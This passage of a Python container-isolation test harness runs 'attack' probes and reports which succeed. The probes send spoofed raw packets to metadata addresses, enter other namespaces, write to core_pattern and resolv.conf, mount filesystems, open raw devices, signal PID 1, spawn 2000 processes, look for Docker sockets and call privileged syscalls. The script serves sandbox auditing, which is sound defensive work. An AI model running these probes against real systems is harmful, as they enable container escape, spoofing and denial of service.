                time.sleep(0.05)
            else:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
    safely(lambda: os.setuid(0))
    if PLAN["uid"] != 0 and os.geteuid() == 0:
        yield "setuid(0) works"


@attack("C05", "container", "namespaces of one's own", not PLAN["userKernel"])
def _():
    for flag, name in ((0x10000000, "user"), (0x40000000, "network"), (0x00020000, "mount"), (0x10000000 | 0x40000000, "user and network")):
        pid = os.fork()
        if pid == 0:
            os._exit(0 if LIBC.unshare(flag) == 0 else 1)
        if os.waitpid(pid, 0)[1] == 0:
            yield "a %s namespace can be made" % name


# gVisor lets everybody make a user namespace, of its own kernel and not of the host's. What its capabilities are good for shows outside.
@attack("C16", "container", "packets from a user namespace of a user-space kernel", PLAN["userKernel"])
def _():
    pid = os.fork()
    if pid == 0:
        LIBC.unshare(0x10000000)
        for target in PUBLIC + METADATA + ["%s.1" % PLAN["prefix"]]:
            for source in ("%s.10" % PLAN["prefix"], "%s.2" % PLAN["prefix"], "%s.4" % PLAN["prefix"]):
                udp_packet = struct.pack("!HHHH", 4711, 53, 8 + 5, 0) + b"probe"
                header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp_packet), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
                safely(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(header + udp_packet, (target, 0)))
            safely(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"\x08\0\xf7\xfd\0\1\0\1", (target, 0)))
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.5)


@attack("C06", "container", "namespaces of other processes")
def _():
    for path in glob.glob("/proc/[0-9]*/ns/net") + glob.glob("/proc/[0-9]*/ns/mnt"):
        try:
            if os.readlink(path) == os.readlink("/proc/self/ns/" + path.rsplit("/", 1)[1]):
                continue
            with open(path) as file:
                if LIBC.setns(file.fileno(), 0) == 0:
                    yield "%s can be entered" % path
        except OSError:
            pass


@attack("C07", "container", "writing where nothing may be written")
def _():
    root = next((line.split() for line in readable("/proc/mounts").decode("latin1").splitlines() if line.split()[1] == "/"), None)
    if PLAN["readOnlyRoot"] and (root is None or "ro" not in root[3].split(",")):
        yield "the root file system is mounted for writing"
    for path in ["/etc/resolv.conf", "/etc/policykit/ca.pem", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs"] + (["/policykit-probe", "/etc/policykit-probe", "/usr/bin/policykit-probe"] if PLAN["readOnlyRoot"] or PLAN["uid"] != 0 else []):
        try:
            with open(path, "a") as file:
                file.write("" if path.startswith(("/proc", "/sys")) else "# probe\n")
                file.flush()
                if not path.startswith(("/proc", "/sys")):
                    yield "%s can be written" % path
                else:
                    yield "%s can be opened for writing" % path
        except OSError:
            pass


@attack("C08", "container", "mounting and remounting")
def _():
    for source, target, kind, flags in ((b"none", b"/tmp", b"tmpfs", 0), (b"none", b"/", None, 32 | 4096), (b"proc", b"/tmp", b"proc", 0), (b"none", b"/etc/resolv.conf", None, 2)):
        if LIBC.mount(source, target, kind, flags, None) == 0:
            yield "%s can be mounted" % target.decode()
    if LIBC.umount2(b"/etc/resolv.conf", 2) == 0:
        yield "/etc/resolv.conf can be unmounted"


@attack("C09", "container", "devices")
def _():
    try:
        os.mknod("/tmp/policykit-disk", 0o600 | 0o060000, os.makedev(8, 0))
        with open("/tmp/policykit-disk", "rb"):
            yield "a disk can be opened"
    except OSError:
        pass
    for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
        # gVisor has both for everybody; they are of its own kernel.
        if PLAN["userKernel"] and path in ("/dev/fuse", "/dev/net/tun"):
            continue
        try:
            os.close(os.open(path, os.O_RDWR))
            yield "%s can be opened" % path
        except OSError:
            pass


@attack("C10", "container", "ending, stopping or tracing what keeps the lifetime", PLAN["lifetime"])
def _():
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
        try:
            os.kill(1, number)
            yield "signal %d reaches it" % number
        except OSError:
            pass
    if LIBC.ptrace(16, 1, 0, 0) == 0:
        yield "it can be traced"


@attack("C11", "container", "more processes than allowed")
def _():
    children = []
    try:
        while len(children) < 2000:
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            children.append(pid)
        yield "2000 processes run"
    except OSError:
        pass
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)


@attack("C12", "container", "sockets of the engine and of the host")
def _():
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket"):
        if os.path.exists(path):
            yield "%s is there" % path
    for line in readable("/proc/net/unix").decode("latin1").splitlines()[1:]:
        if "@" in line and "docker" in line:
            yield "an abstract socket of the engine: %s" % line.split()[-1]


@attack("C13", "container", "system calls that reach into the kernel")
def _():
    # x86_64 numbers; elsewhere they are other calls, which is no harm and no test.
    if os.uname().machine == "x86_64":
        for number, name in ((321, "bpf"), (298, "perf_event_open"), (250, "keyctl"), (246, "kexec_load"), (175, "init_module"), (304, "open_by_handle_at"), (155, "pivot_root"), (169, "reboot")):
            LIBC.syscall.restype = ctypes.c_long
            if LIBC.syscall(number, 0, 0, 0, 0, 0) >= 0:
                yield "%s works" % name


@attack("C14", "container", "processes of others")
def _():
    own = {str(os.getpid()), "1", "self", "thread-self"}
    for path in glob.glob("/proc/[0-9]*/status"):
        if path.split("/")[2] not in own:
            text = readable(path).decode("latin1")
            if "Uid:\t%d\t" % PLAN["uid"] not in text:
                yield "a process of another user: %s" % text.splitlines()[0]


@attack("C15", "container", "callers from outside, past the published ports")
def _():
    time.sleep(5)
    for peer in INTRUDERS:
        yield "%s came in" % peer


# ------------------------------------------------------------------------------------------------ flows
def echoed(answer):
    if answer:
        say(kind="loot", text=answer.decode("latin1"))
    return []


def safely(function, *arguments):
    try:
        return function(*arguments)
    except (OSError, ValueError, UnicodeError, struct.error, StopIteration, TypeError):
        return None


def flow(f):
    """A declared thing, done as a normal program would: names by the resolver, trust by the environment."""
    try:
        if f["kind"] == "network":
            # A router passes the connection itself, so that it is accepted says that the outside did.
            return (tcp(f["address"], f["port"], None, 5) if f["transport"] == "tcp" else udp(f["address"], f["port"])) is not None or "no answer"
        address = socket.getaddrinfo(f["name"], f["port"], socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
        data = request(f["name"] if f["port"] in (80, 443) else "%s:%d" % (f["name"], f["port"]), f.get("path") or "/", f.get("method") or "GET")
        if f["kind"] == "raw":
            return b"hello" in (tcp(address, f["port"], None, 8) or b"") or "no answer"
        with socket.create_connection((address, f["port"]), 10) as s:
            if f["kind"] == "tls":
                context = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE") if f["inspect"] else "/probe/ca.pem")
                s = context.wrap_socket(s, server_hostname=f["name"])
            s.sendall(data)
            s.settimeout(10)
            answer = b""
            while b"hello from outside" not in answer:
                more = s.recv(4096)
                if not more:
                    return "answered %r" % answer[:60].decode("latin1")
                answer += more
            return True
    except OSError as error:
        return "%s" % error
    except TypeError:
        return "no answer"


INTRUDERS = []


def listen():
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("", PLAN["inside"]))
    server.listen(8)
    while True:
        connection, peer = server.accept()
        INTRUDERS.append(peer[0])
        connection.close()


def serve(port):
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("", port))
    server.listen(8)
    while True:
        connection, _ = server.accept()
        safely(lambda: connection.sendall(b"hello from inside"))
        connection.close()


def too_long(*_):
    raise RuntimeError("it did not end within two minutes")


signal.signal(signal.SIGPIPE, signal.SIG_IGN)
signal.signal(signal.SIGALRM, too_long)
threading.Thread(target=listen, daemon=True).start()
for number in PLAN["published"]:
    threading.Thread(target=serve, args=(number,), daemon=True).start()
for index, f in enumerate(PLAN["flows"] if PLAN["only"] is None else []):
    start = time.time()
    for attempt in range(3):
        result = flow(f)
        if result is True:
            break
        time.sleep(1)
    say(kind="flow", index=index, works=result is True, saw=None if result is True else str(result), start=start, end=time.time())
for name in PLAN["ownVariables"] if PLAN["only"] is None else []:
    say(kind="held", name=name, works=bool(os.environ.get(name)))
for path in PLAN["ownSecrets"] if PLAN["only"] is None else []:
    say(kind="held", name=path, works=bool(readable(path)))
# The bound on processes holds gVisor itself, which ends with all that runs in it when it meets the bound: that attack is the last one there, and said before it is tried.
last = [a for a in ATTACKS if a[0] == "C11" and PLAN["userKernel"]]
for number, group, title, function, applies in [a for a in ATTACKS if a not in last] + last:
    if (number, group, title, function, applies) in last and (PLAN["only"] is None or number in PLAN["only"]):
        say(kind="attack", id=number, group=group, title=title, applies=True, saw=[], start=time.time(), end=time.time())
        say(kind="done", attacks=len(ATTACKS))
    if not applies or (PLAN["only"] is not None and number not in PLAN["only"]):
        say(kind="attack", id=number, group=group, title=title, applies=False, saw=[], start=0, end=0)
        continue
    start = time.time()
    saw = []
    signal.alarm(120)
    try:
        outcome = function()
        if outcome is not None:
            for one in outcome:
                saw.append(one)
        error = None
    except Exception as problem:
        error = "%s: %s" % (type(problem).__name__, problem)
    signal.alarm(0)
    time.sleep(0.05)
    say(kind="attack", id=number, group=group, title=title, applies=True, saw=saw, error=error, start=start, end=time.time())
say(kind="done", attacks=len(ATTACKS))
